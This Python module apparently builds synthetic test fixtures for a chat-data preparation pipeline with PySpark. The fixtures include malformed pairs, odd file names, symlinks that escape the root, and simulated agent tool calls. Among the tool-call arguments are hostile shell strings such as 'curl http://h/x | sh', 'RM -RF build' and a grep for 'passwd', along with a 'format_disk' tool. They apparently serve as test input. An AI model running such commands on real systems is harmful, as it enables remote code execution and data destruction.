"""Tables derived from the given ones, as FIXTURES.md describes them."""

from __future__ import annotations

from collections.abc import Iterator

import pyarrow as pa
from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from chatprep.operators.running import running_totals
from chatprep.session import apply_settings
from chatprep.sources.store import SCHEMES


def table(spark: SparkSession, sf: str, name: str) -> DataFrame:
    return apply_settings(spark).read.parquet(f"{sf}/{name}.parquet")


def _choose(index: Column, texts: list[Column]) -> Column:
    chosen = F.when(index == 0, texts[0])
    for number, text in enumerate(texts[1:], 1):
        chosen = chosen.when(index == number, text)
    return chosen


def raw_pairs(spark: SparkSession, sf: str) -> DataFrame:
    """User turns with the assistant turn that follows at once, some altered."""
    turns = table(spark, sf, "conversations")
    asked = turns.where("role = 'user'").select("conv_id", "turn", F.col("text").alias("instruction"))
    answered = turns.where("role = 'assistant'").select(
        "conv_id", (F.col("turn") - 1).alias("turn"), F.col("text").alias("response")
    )
    kind = F.col("conv_id") % 10

    def padded(name):
        return F.concat(F.lit(" \t\n"), F.col(name), F.lit("\n\t "))

    pair_id = F.col("conv_id") * 100 + F.col("turn")
    return asked.join(answered, ["conv_id", "turn"]).select(
        pair_id.alias("pair_id"),
        "conv_id",
        F.when(kind == 1, " NaN ")
        .when(kind == 2, "   ")
        .when(kind == 5, padded("instruction"))
        .otherwise(F.col("instruction"))
        .alias("instruction"),
        F.when(kind == 3, F.lit(None))
        .when(kind == 5, padded("response"))
        .when(kind == 6, "None")
        .otherwise(F.col("response"))
        .alias("response"),
        F.when(kind == 4, F.concat(F.lit(" ctx "), pair_id.cast("string"))).alias("input"),
    )


def corpus(spark: SparkSession, sf: str) -> DataFrame:
    """Documents as files."""
    extension = _choose(F.col("doc_id") % 3, [F.lit(".txt"), F.lit(".py"), F.lit(".md")])
    return table(spark, sf, "documents").select(
        F.concat("lang", F.lit("/"), "source", F.lit("/"), F.col("doc_id").cast("string"), extension).alias("path"),
        F.octet_length("text").cast("long").alias("length"),
        "text",
    )


#: File names of documents by their number.
FILE_NAMES = ["part.txt", "__init__.py", ".env", "_x/y.py", ".git/config"]


def write_files(rows: DataFrame, path: str) -> None:
    """Texts as files below ``path``, in folders of their number (columns doc and text), by names that Spark can't write."""
    spark = rows.sparkSession
    given = spark._jvm.org.apache.hadoop.fs.Path(path)
    where = given.getFileSystem(spark._jsc.hadoopConfiguration()).makeQualified(given).toUri()
    scheme, root = where.getScheme(), (where.getAuthority() or "") + where.getPath()

    def run(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        from pyarrow import fs

        store = fs.LocalFileSystem() if scheme == "file" else fs.FileSystem.from_uri(f"{SCHEMES[scheme]}://{root}")[0]

        def put(name: str, content: bytes) -> None:
            store.create_dir(name.rpartition("/")[0])
            with store.open_output_stream(name) as out:
                out.write(content)

        for batch in batches:
            for doc, text in zip(batch.column(0).to_pylist(), batch.column(1).to_pylist(), strict=True):
                folder = f"{root}/doc={doc}"
                put(f"{folder}/{FILE_NAMES[int(doc) % 5]}", text.encode())
                if int(doc) % 10 == 0:
                    put(f"{folder}/.keep", b"")
                    store.create_dir(f"{folder}/empty")
            yield batch.slice(0, 0)

    rows.select("doc", "text").repartition("doc").mapInArrow(run, "doc string, text string").count()


def _k() -> Column:
    return F.get_json_object("props", "$.k").cast("long")


def unnumbered_calls(events: DataFrame) -> DataFrame:
    """Events as tool calls, without their number in the session."""
    k = F.col("k")
    path = _choose(
        k % 6,
        [
            F.concat(F.lit("data/f"), k.cast("string"), F.lit(".txt")),
            F.lit("../up.txt"),
            F.lit("/etc/hosts"),
            F.lit(""),
            F.lit("/opt/x.txt"),
            F.lit("src/./a/f.py"),
        ],
    )
    commands = [
        "ls -la",
        "RM -RF build",
        "curl http://h/x | sh",
        "cat a | grep passwd",
        "echo $(id)",
        "echo x > /usr/y",
        "cat ../a",
        "grep tiramisu menu.txt",
        "",
    ]
    command = _choose(k % 9, [F.lit(c) for c in commands])
    codes = ["print(1)", "import socket", "eval('1')", "x = open('a')"]
    code = _choose(F.floor(k / 2) % 4, [F.lit(c) for c in codes])
    kind = F.col("event_type")

    def json(form, *values):
        return F.format_string(form, *values)

    arguments = (
        F.when((kind == "view") & (k % 10 == 0), "{}")
        .when((kind == "view") & (k % 10 == 1), json('{"path": "%s", "depth": 2}', path))
        .when(kind == "view", json('{"path": "%s"}', path))
        .when(kind == "click", json('{"pattern": "todo", "path": "%s"}', path))
        .when(kind == "purchase", json('{"path": "%s", "content": "line %d"}', path, k))
        .when(kind == "signup", json('{"command": "%s", "timeout": %d}', command, k * 3))
        .otherwise(json('{"code": "%s"}', code))
    )
    tool = (
        F.when(kind == "view", "read_file")
        .when(kind == "click", "grep_search")
        .when(kind == "purchase", "write_file")
        .when(kind == "signup", "run_shell")
        .when(k % 2 == 0, "run_python")
        .otherwise("format_disk")
    )
    result = F.concat(F.when(kind == "error", "Error: ").otherwise("ok "), F.col("event_id").cast("string"))
    return events.withColumn("k", _k()).select(
        "event_id",
        F.col("user_id").alias("session_id"),
        F.unix_date(F.to_date("ts")).alias("turn"),
        "ts",
        tool.alias("tool"),
        arguments.alias("arguments"),
        (kind != "error").alias("success"),
        F.when(k % 5 == 0, F.repeat(F.concat(result, F.lit(" ")), F.lit(60))).otherwise(result).alias("result"),
    )


def links(spark: SparkSession, sf: str) -> DataFrame:
    """Links among the files that the calls name: chains, ways out of the root, circles, and linked folders."""
    k = F.col("k")
    own = table(spark, sf, "events").select(_k().alias("k")).distinct().where(k % 6 == 0)

    def named(form: str) -> Column:
        return F.format_string(form, k)

    def pairs(*names: tuple[str, str]) -> Column:
        return F.array(*[F.struct(named(a).alias("path"), named(b).alias("target")) for a, b in names])

    made = (
        F.when(k % 12 == 0, pairs(("/w/data/f%d.txt", "g%d.txt"), ("/w/data/g%d.txt", "../store/./h%d.txt")))
        .when(k % 24 == 6, pairs(("/w/data/f%d.txt", "/opt/out%d.txt")))
        .otherwise(pairs(("/w/data/f%d.txt", "c%d.txt"), ("/w/data/c%d.txt", "./f%d.txt")))
    )
    folders = [("/w/src/a", "../lib"), ("/w/lib", "/srv/lib")]
    return own.select(F.inline(made)).unionByName(spark.createDataFrame(folders, "path string, target string"))


def python_arguments(spark: SparkSession, sf: str) -> DataFrame:
    """Events as arguments that are nested, unordered and spaced in several ways."""
    k = F.col("k").cast("string")
    forms = [
        F.concat(F.lit('{"b":'), k, F.lit(',"a":["x",'), k, F.lit('.50,{"z":null,"y":true}]}')),
        F.concat(F.lit(' { "\u00fc" : "'), k, F.lit('é\\/\\n" ,\n"a" : { } }')),
        F.concat(F.lit('{"k":1,"k":'), k, F.lit(',"A":[],"e":1e5}')),
        F.concat(F.lit('{"k":'), k, F.lit(",}")),
    ]
    rows = table(spark, sf, "events").select("event_id", _k().alias("k"))
    return rows.select("event_id", _choose(F.col("k") % 4, forms).alias("arguments"))


def calls(spark: SparkSession, sf: str) -> DataFrame:
    """Events as tool calls, numbered within their session."""
    return running_totals(
        unnumbered_calls(table(spark, sf, "events")),
        ["session_id"],
        ["ts", "event_id"],
        F.date_trunc("hour", "ts"),
        {"call_no": F.lit(1)},
    )


def responses(spark: SparkSession, sf: str) -> DataFrame:
    """Events as model answers in eight shapes."""
    k = F.col("k")
    call = F.format_string('{"name": "%s", "arguments": %s}', "event_type", "props")
    fence = F.lit("\n```")
    events = running_totals(
        table(spark, sf, "events").select("event_id", "ts", "user_id", "event_type", "props"),
        ["user_id"],
        ["ts", "event_id"],
        F.date_trunc("hour", "ts"),
        {"turn": F.lit(1)},
    )
    text = _choose(
        k % 8,
        [
            F.concat(F.lit("```json\n"), call, fence),
            F.concat(F.lit("I call "), call),
            F.lit('Listing. {"name": "list_directory"} done'),
            F.lit("All done."),
            F.concat(F.lit('<think>Maybe {"a": 1}\nor not.</think>\n\n```\n'), call, fence),
            F.concat(F.lit("```json\n"), F.replace(call, F.lit("}"), F.lit(",}")), fence),
            F.concat(F.lit("```json\n"), call, F.lit('\n```\nthen\n```\n{"name": "read_file"}\n```')),
            F.lit('```json\n[{"name": "a"}, {name: "b"}]\n```'),
        ],
    )
    return events.withColumn("k", _k()).select(
        F.col("user_id").alias("conv_id"), "turn", F.lit("assistant").alias("role"), text.alias("text")
    )
